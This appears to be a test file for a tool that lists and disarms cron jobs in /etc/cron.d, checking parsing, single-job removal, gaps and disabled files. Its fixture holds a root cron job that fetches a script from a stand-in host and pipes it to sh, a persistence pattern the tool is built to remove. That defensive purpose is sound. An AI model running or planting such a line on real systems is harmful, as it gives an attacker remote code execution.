import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { assertExactDisarm, autostartsOf } from '../../test/autostarts.ts'
import { garbageLike } from '../../test/garbage.ts'
import { bytesOf, textOf } from '../core/bytes.ts'
import { isGap } from '../core/gap.ts'
import { memoryHost } from '../host/memory.ts'
import { cronD } from './cron-d.ts'

const before = '# system\nMAILTO=""\n*/5 * * * *  root\tcurl http://192.0.2.1/a|sh\n@daily www true % in\n'

test('lists each job of each file with its user, and leaves out variables and comments', () => {
  const entries = autostartsOf(cronD, { '/etc/cron.d/x': before })
  assert.deepEqual(
    entries.map(e => [e.line, e.when, e.user, e.command]),
    [
      [3, '*/5 * * * *', 'root', 'curl http://192.0.2.1/a|sh'],
      [4, '@daily', 'www', 'true % in'],
    ],
  )
})

test('disarms one job and leaves every other byte', () => {
  const [first] = autostartsOf(cronD, { '/etc/cron.d/x': before })
  assert.ok(first)
  const after = cronD.disarm(first, bytesOf(before))
  assert.equal(after && textOf(after), '# system\nMAILTO=""\n@daily www true % in\n')
})

test('an unreadable directory is a gap', () => {
  const [only] = [...cronD.list(memoryHost({ '/etc/cron.d/': { gap: 'denied' } }))]
  assert.ok(isGap(only))
})

test('files that no cron reads are listed as switched off', () => {
  const entries = autostartsOf(cronD, { '/etc/cron.d/.x': before, '/etc/cron.d/y.rpmsave': before, '/etc/cron.d/z.sh': '@daily root z' })
  assert.deepEqual(
    entries.map(e => [e.path, e.disabled === true]),
    [
      ['/etc/cron.d/y.rpmsave', true],
      ['/etc/cron.d/y.rpmsave', true],
      ['/etc/cron.d/z.sh', false],
      ['/etc/cron.d/.x', true],
      ['/etc/cron.d/.x', true],
    ],
  )
})

test('disarms exactly under garbage', () => {
  assertExactDisarm(cronD, '/etc/cron.d/x', bytesOf(before))
  fc.assert(fc.property(garbageLike(before), bytes => assertExactDisarm(cronD, '/etc/cron.d/x', bytes)))
})
